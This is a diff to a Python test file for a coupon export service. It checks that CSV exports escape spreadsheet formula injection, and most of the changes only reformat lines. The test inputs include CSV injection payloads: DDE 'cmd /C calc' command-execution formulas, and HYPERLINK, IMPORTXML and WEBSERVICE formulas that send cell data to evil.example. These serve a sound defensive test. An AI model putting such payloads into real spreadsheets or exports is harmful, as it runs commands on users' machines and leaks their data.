@@ -12,9 +12,11 @@ from couponflow.domain.models import Holder, Redemption, RedemptionStatus
 from couponflow.services.exports import COLUMNS, ExportService
 
 DANGEROUS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x", "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x",
+    "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"win")',
-    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc")',
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")',
+    '=DDE("cmd";"/C calc")',
     '"=1+1', '""=1+1', "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n+1", 'x";=1+1', "x; =1+1", "x,=1+1",
     "\uff1d1+1", "\uff0b1", "\uff0d1",
     "\uff20x", "\u00a0=1+1", "\x00=1+1", "\x0b=1+1", "\u2028=1+1", "+491701234567", "-", "=", "@",
@@ -35,26 +37,53 @@ def test_control_unescaped_values_begin_formulas():
 
 
 @pytest.mark.parametrize(
-    "value", ["ann", "customer-1", "a+b@example.org", "x=1", "U4af4980629", "5511987654321", "", "a;b", "7 - 2"]
+    "value",
+    [
+        "ann",
+        "customer-1",
+        "a+b@example.org",
+        "x=1",
+        "U4af4980629",
+        "5511987654321",
+        "",
+        "a;b",
+        "7 - 2",
+    ],
 )
 def test_safe_value_is_unchanged(value):
     assert escape_formulas(value) == value
 
 
 class File:
-    def save(self, organisation_id: str, export_id: str, content: bytes, content_type: str, file_name: str) -> str:
+    def save(
+        self,
+        organisation_id: str,
+        export_id: str,
+        content: bytes,
+        content_type: str,
+        file_name: str,
+    ) -> str:
         self.content = content
         return "https://bucket.example"
 
 
 def redemption(customer_id: str, number: int = 1) -> Redemption:
     now, holder = datetime(2026, 1, 1, tzinfo=UTC), Holder("c" * 13, "m" * 26)
-    return Redemption(f"id-{number}", holder, "000001", RedemptionStatus.DISTRIBUTED, customer_id, customer_id, now)
+    return Redemption(
+        f"id-{number}",
+        holder,
+        "000001",
+        RedemptionStatus.DISTRIBUTED,
+        customer_id,
+        customer_id,
+        now,
+    )
 
 
 def test_export_has_complete_rows_without_formulas():
     file = File()
-    written = ExportService(None, file)._written(redemption(value, number) for number, value in enumerate(DANGEROUS))  # type: ignore[arg-type]
+    records = (redemption(value, number) for number, value in enumerate(DANGEROUS))
+    written = ExportService(None, file)._written(records)  # type: ignore[arg-type]
     rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
     assert rows[0] == list(COLUMNS)
     assert len(rows) == len(DANGEROUS) + 1
